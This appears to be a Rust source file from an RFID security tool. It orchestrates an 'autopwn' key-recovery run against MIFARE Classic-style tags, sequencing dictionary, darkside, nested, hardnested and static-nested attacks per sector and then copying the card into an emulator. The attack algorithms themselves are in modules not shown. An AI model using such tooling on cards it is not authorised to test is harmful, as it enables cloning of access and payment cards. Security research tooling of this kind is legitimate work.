//! Autopwn orchestrator (C10): sequences dictionary → darkside → per-sector
//! nested/hardnested/static-nested with fallback, propagating every newly
//! found key back across the whole table before continuing.

use crate::attacks::hardnested::simd::SimdWidth;
use crate::attacks::{darkside, hardnested, nested, static_nested};
use crate::dictionary;
use crate::error::{EngineError, EngineResult};
use crate::keytable::{Key, KeyTable, KeyType, Source};
use crate::profile::TagProfile;
use crate::transport::{abort_if_cancelled, DeviceTransport, PrngStatic, PrngWeak};
use log::{info, warn};
use std::path::PathBuf;
use std::sync::atomic::AtomicBool;

/// A user-supplied known key to seed the run with.
#[derive(Debug, Clone, Copy)]
pub struct KnownKey {
    pub sector: usize,
    pub keytype: KeyType,
    pub key: Key,
}

#[derive(Debug, Clone)]
pub struct AutopwnConfig {
    pub profile: TagProfile,
    pub known: Option<KnownKey>,
    pub dictionary_path: Option<PathBuf>,
    /// Insert a delay between hardnested acquisitions, for non-standard tags.
    pub slow: bool,
    /// Use the per-sector `authenticate` loop instead of device fast-check.
    pub legacy: bool,
    pub simd_hint: Option<SimdWidth>,
}

/// Run the full autopwn pipeline. Returns `Ok(table)` when every key was
/// recovered, or `Err(EngineError::Partial(table))` carrying the partial
/// table when the run finished (or was cancelled) with keys still missing —
/// per §7's `Partial` error kind.
pub fn run(
    transport: &mut dyn DeviceTransport,
    cfg: &AutopwnConfig,
    cancel: &AtomicBool,
) -> EngineResult<KeyTable> {
    let mut table = KeyTable::new(cfg.profile);

    // Phase 1: probe.
    let prng_static = transport.detect_prng_static()?;
    let prng_weak = if prng_static == PrngStatic::Normal {
        Some(transport.detect_prng_weak()?)
    } else {
        None
    };
    info!("autopwn: prng_static={prng_static:?} prng_weak={prng_weak:?}");

    // Phase 2: known-key intake.
    if let Some(known) = cfg.known {
        let first_block = cfg.profile.first_block_of(known.sector);
        match transport.authenticate(first_block, known.keytype, known.key) {
            Ok(()) => {
                table.set(known.sector, known.keytype, known.key, Source::User);
                propagate(transport, &mut table, known.key, cancel)?;
            }
            Err(EngineError::AuthFail) => warn!("autopwn: supplied known key failed to authenticate"),
            Err(e) => return Err(e),
        }
    }

    // Phase 3: dictionary.
    let user_keys = match &cfg.dictionary_path {
        Some(path) => dictionary::load_dictionary_file(path)?,
        None => Vec::new(),
    };
    let keys = dictionary::merged_dictionary(&user_keys);

    abort_if_cancelled(cancel)?;
    if cfg.legacy {
        dictionary::run_legacy_check(transport, &mut table, &keys, cancel)?;
    } else {
        dictionary::run_fast_check(transport, &mut table, &keys, cancel)?;
    }
    propagate_all_found(transport, &mut table, cancel)?;

    // Phase 4: darkside bootstrap if still no key at all.
    if table.count_found() == 0 && prng_weak == Some(PrngWeak::Weak) {
        abort_if_cancelled(cancel)?;
        match darkside::run(transport, cfg.profile.first_block_of(0), cancel) {
            Ok(key) => {
                table.set(0, KeyType::A, key, Source::Darkside);
                propagate(transport, &mut table, key, cancel)?;
            }
            Err(EngineError::NotVulnerable(reason)) => {
                info!("autopwn: darkside bootstrap skipped: {reason}");
            }
            Err(e) => return Err(e),
        }
    }

    // Phase 5: per-sector loop.
    per_sector_loop(transport, &mut table, prng_static, prng_weak, cfg, cancel)?;

    // Phase 6: finalize.
    finalize(transport, &table)?;

    if table.any_unknown() {
        Err(EngineError::Partial(table))
    } else {
        Ok(table)
    }
}

fn per_sector_loop(
    transport: &mut dyn DeviceTransport,
    table: &mut KeyTable,
    prng_static: PrngStatic,
    prng_weak: Option<PrngWeak>,
    cfg: &AutopwnConfig,
    cancel: &AtomicBool,
) -> EngineResult<()> {
    let sectors = table.len();
    for sector in 0..sectors {
        for kt in [KeyType::A, KeyType::B] {
            if abort_if_cancelled(cancel).is_err() {
                return Ok(());
            }
            if table.is_found(sector, kt) {
                continue;
            }

            // B read from the trailer once A is known and access allows it.
            if kt == KeyType::B {
                if let Some(key_a) = table.key_if_found(sector, KeyType::A) {
                    if let Some(key_b) = try_read_b_from_trailer(transport, table.profile(), sector, key_a)? {
                        table.set(sector, KeyType::B, key_b, Source::KeyARead);
                        propagate(transport, table, key_b, cancel)?;
                        continue;
                    }
                }
            }

            let Some((known_block, known_kt, known_key)) = find_known_anchor(table) else {
                continue;
            };
            let target_block = table.profile().first_block_of(sector);

            let outcome = if prng_static == PrngStatic::Static {
                static_nested::run(transport, known_block, known_kt, known_key, target_block, kt, cancel)
            } else if prng_weak == Some(PrngWeak::Weak) {
                match nested::run(transport, known_block, known_kt, known_key, target_block, kt, cancel) {
                    Err(EngineError::NotVulnerable(_)) => hardnested::run(
                        transport,
                        known_block,
                        known_kt,
                        known_key,
                        target_block,
                        kt,
                        None,
                        cfg.slow,
                        cfg.simd_hint,
                        cancel,
                    ),
                    other => other,
                }
            } else {
                hardnested::run(
                    transport,
                    known_block,
                    known_kt,
                    known_key,
                    target_block,
                    kt,
                    None,
                    cfg.slow,
                    cfg.simd_hint,
                    cancel,
                )
            };

            match outcome {
                Ok(key) => {
                    let source = match (prng_static, prng_weak) {
                        (PrngStatic::Static, _) => Source::StaticNested,
                        (_, Some(PrngWeak::Weak)) => Source::Nested,
                        _ => Source::Hardnested,
                    };
                    table.set(sector, kt, key, source);
                    propagate(transport, table, key, cancel)?;
                }
                Err(EngineError::NotVulnerable(reason)) => {
                    warn!("autopwn: sector {sector} key {kt:?} not recovered: {reason}");
                }
                Err(EngineError::Timeout) => {
                    warn!("autopwn: sector {sector} key {kt:?} timed out, continuing");
                }
                Err(e) => return Err(e),
            }
        }
    }
    Ok(())
}

fn find_known_anchor(table: &KeyTable) -> Option<(usize, KeyType, Key)> {
    for sector in 0..table.len() {
        for kt in [KeyType::A, KeyType::B] {
            if let Some(key) = table.key_if_found(sector, kt) {
                return Some((table.profile().first_block_of(sector), kt, key));
            }
        }
    }
    None
}

fn try_read_b_from_trailer(
    transport: &mut dyn DeviceTransport,
    profile: TagProfile,
    sector: usize,
    key_a: Key,
) -> EngineResult<Option<Key>> {
    let trailer_block = profile.first_block_of(sector) + profile.blocks_of(sector) - 1;
    match transport.read_block(trailer_block, KeyType::A, key_a) {
        Ok(trailer) => {
            let access = crate::profile::AccessConditions::decode_trailer(&trailer);
            if !access[3].trailer_read_key_a() {
                return Ok(None);
            }
            let mut raw = [0u8; 8];
            raw[2..8].copy_from_slice(&trailer[10..16]);
            Ok(Some(u64::from_be_bytes(raw)))
        }
        Err(EngineError::AuthFail) => Ok(None),
        Err(e) => Err(e),
    }
}

fn propagate(
    transport: &mut dyn DeviceTransport,
    table: &mut KeyTable,
    key: Key,
    cancel: &AtomicBool,
) -> EngineResult<()> {
    let n = dictionary::propagate_key(transport, table, key, cancel)?;
    if n > 0 {
        info!("autopwn: reuse propagation found {n} additional key(s)");
    }
    Ok(())
}

fn propagate_all_found(
    transport: &mut dyn DeviceTransport,
    table: &mut KeyTable,
    cancel: &AtomicBool,
) -> EngineResult<()> {
    let found_keys: Vec<Key> = (0..table.len())
        .flat_map(|s| [table.key_if_found(s, KeyType::A), table.key_if_found(s, KeyType::B)])
        .flatten()
        .collect();
    for key in found_keys {
        propagate(transport, table, key, cancel)?;
    }
    Ok(())
}

fn finalize(transport: &mut dyn DeviceTransport, table: &KeyTable) -> EngineResult<()> {
    for kt in [KeyType::A, KeyType::B] {
        if transport.emulator_fill_from_card(table.len(), kt).is_ok() {
            return Ok(());
        }
    }
    Ok(())
}
